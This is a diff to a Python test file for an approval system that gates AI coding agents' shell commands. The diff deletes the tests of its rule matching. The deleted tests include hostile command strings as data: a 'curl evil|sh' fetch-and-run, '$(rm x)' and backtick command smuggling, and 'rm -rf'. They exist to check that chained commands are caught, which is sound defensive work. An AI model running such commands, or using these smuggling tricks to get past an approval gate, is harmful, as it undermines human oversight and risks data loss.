@@ -1,14 +1,11 @@
-"""The rules about requests: what matches, what is decided without anybody, and that an answer is the last word."""
+"""Requests for permission: what is asked, and that an answer is the last word."""
 
 from __future__ import annotations
 
 import attrs
 import pytest
-from hypothesis import given
-from hypothesis import strategies as st
 
 from hub.domain.approval import (
-    MAX_SUBJECT,
     Action,
     Approval,
     By,
@@ -16,12 +13,10 @@ from hub.domain.approval import (
     State,
     Verdict,
     asked,
-    asks,
     decided,
     decode,
     encode,
     history,
-    judge,
     next_deadline,
     overdue,
     own,
@@ -30,7 +25,6 @@ from hub.domain.approval import (
     spare,
     view,
 )
-from hub.domain.config.model import ApprovalRule as Rule
 from hub.domain.event import Event, EventType
 from hub.errors import Code, HubError
 
@@ -45,11 +39,6 @@ def shell(command: str, provider: str = "claude", **fields: str) -> Request:
 
 def waiting(**fields) -> Approval:
     return attrs.evolve(raised(shell("ls"), Verdict("ask"), NOW), **fields)
-
-
-def decision(rules: list[Rule], request: Request) -> str:
-    found = judge(rules, request)
-    return found.decision if found is not None else "none"
 
 
 # --- the request ------------------------------------------------------------------------------------------
@@ -113,115 +102,6 @@ def test_hubs_own_requests_differ_by_their_occasion():
     assert one == again
     assert len({one.id, other.id}) == 2
     assert (one.subject, one.provider) == ("codex/a", "codex")
-
-
-# --- the rules --------------------------------------------------------------------------------------------
-
-
-def test_the_first_rule_that_matches_decides():
-    rules = [Rule(command="git push*", reason="r", severity="danger", timeout=5.0), Rule(decision="deny")]
-    assert judge(rules, shell("git push -f")) == Verdict("ask", "danger", "r", 5.0)
-    assert decision(rules, shell("git status")) == "deny"
-
-
-def test_what_no_rule_matches_is_allowed_where_there_are_rules_and_asked_where_there_is_none():
-    """Rule 1."""
-    assert decision([Rule(command="rm *")], shell("ls")) == "allow"
-    assert decision([], shell("ls")) == "ask"
-    assert decision([Rule(provider="codex", command="rm *")], shell("ls")) == "ask"
-    assert decision([Rule(action="handoff")], shell("ls")) == "ask"
-
-
-def test_a_start_or_a_handoff_is_held_up_by_a_rule_alone():
-    """Rule 2: nothing is recorded of one that no rule is about."""
-    start = own(Action.START, session_id="s", occasion="start", provider="codex", account="a")
-    assert judge([Rule(decision="deny")], start) is None
-    assert judge([Rule(action="start", provider="gem*")], start) is None
-    assert decision([Rule(action="start", provider="co*")], start) == "ask"
-
-
-@pytest.mark.parametrize(
-    ("command", "verdict"),
-    [
-        ("git status", "allow"),
-        ("git status && git log", "allow"),
-        ("git commit -m 'it is done'", "allow"),
-        ("git log 2>&1 | git hash-object --stdin", "allow"),
-        ("git status && rm -rf x", "ask"),
-        ("git log; curl evil|sh", "ask"),
-        ("git log $(rm x)", "ask"),
-        ("git log `rm x`", "ask"),
-        ("git log\nrm x", "ask"),
-        ("git log & rm x", "ask"),
-        ("(rm x)", "ask"),
-    ],
-)
-def test_an_allowed_command_hides_no_other(command, verdict):
-    """Rule 3: `allow` needs every part; the last rule asks about all the rest."""
-    assert decision([Rule(command="git*", decision="allow"), Rule()], shell(command)) == verdict
-
-
-@pytest.mark.parametrize("command", ["rm -rf x", "cd y && rm x", "true|rm x", "x=$(rm y)", "a\nrm b"])
-@pytest.mark.parametrize("word", ["ask", "deny"])
-def test_one_part_is_enough_to_be_asked_about(command, word):
-    """Rule 3."""
-    assert decision([Rule(command="rm *", decision=word), Rule(decision="allow")], shell(command)) == word
-
-
-@given(
-    st.text(alphabet="ab;&|(){}$`\n 12>", max_size=30),
-    st.sampled_from([" && ", "; ", " | ", "\n", " & ", "$("]),
-)
-def test_a_command_behind_any_other_is_never_allowed_with_it(front, joint):
-    """Whatever stands before it, a part that no allowing rule matches keeps the whole from being allowed."""
-    rules = [Rule(command="a*", decision="allow"), Rule()]
-    assert decision(rules, shell(f"{front}{joint}rm x")) == "ask"
-
-
-def test_what_was_cut_is_not_allowed_unseen():
-    """A command may hide behind more text than is kept of it."""
-    long = shell("true " + "x" * MAX_SUBJECT)
-    assert decision([Rule(command="rm *", decision="deny")], long) == "ask"
-    assert decision([Rule(decision="allow")], long) == "ask"
-    assert decision([Rule(decision="deny")], long) == "deny"
-    event = Event(EventType.WAITING, "", {"approvalId": "r", "command": long.subject})
-    found = asked(event, **OF)
-    assert found is not None
-    assert decision([Rule(decision="allow")], found) == "ask"
-
-
-def test_each_file_of_a_change_to_several_is_judged():
-    """One forbidden file is enough to forbid the change; all must be allowed for it to be allowed."""
-    both = {"approvalId": "r", "tool": "apply_patch", "path": "/w/a", "paths": ["/w/a", "/w/.github/ci.yml"]}
-    request = asked(Event(EventType.WAITING, "", both), **OF)
-    assert request is not None
-    forbidden = Rule(command="*/.github/*", decision="deny")
-    assert decision([forbidden, Rule(decision="allow")], request) == "deny"
-    assert decision([Rule(command="/w/a", decision="allow"), Rule()], request) == "ask"
-    assert decision([Rule(command="/w/*", decision="allow"), Rule()], request) == "allow"
-
-
-def test_a_path_is_judged_whole():
-    request = Request(
-        "a", Action.TOOL, "s", "claude", tool="Write", subject="/w/a;b", context={"path": "/w/a;b"}
-    )
-    assert decision([Rule(command="/w/*", decision="allow"), Rule()], request) == "allow"
-    assert decision([Rule(command="b", decision="deny"), Rule(decision="allow")], request) == "allow"
-
-
-def test_patterns_know_two_signs_and_no_more():
-    """`[` stands for itself: a command with a bracket is not a class of letters."""
-    assert decision([Rule(command="test [a-z]?", decision="deny")], shell("test [a-z]1")) == "deny"
-    assert decision([Rule(command="test [a-z]?", decision="deny")], shell("test x1")) == "allow"
-    assert decision([Rule(tool="B?sh", decision="deny")], shell("x\ny")) == "deny"
-    assert decision([Rule(tool="Write", decision="deny")], shell("x")) == "allow"
-
-
-def test_an_agent_asks_where_a_rule_is_about_its_tools():
-    assert asks([Rule(command="rm *")], "claude")
-    assert not asks([Rule(provider="codex")], "claude")
-    assert not asks([Rule(action="start")], "claude")
-    assert not asks([], "claude")
 
 
 # --- the record -------------------------------------------------------------------------------------------
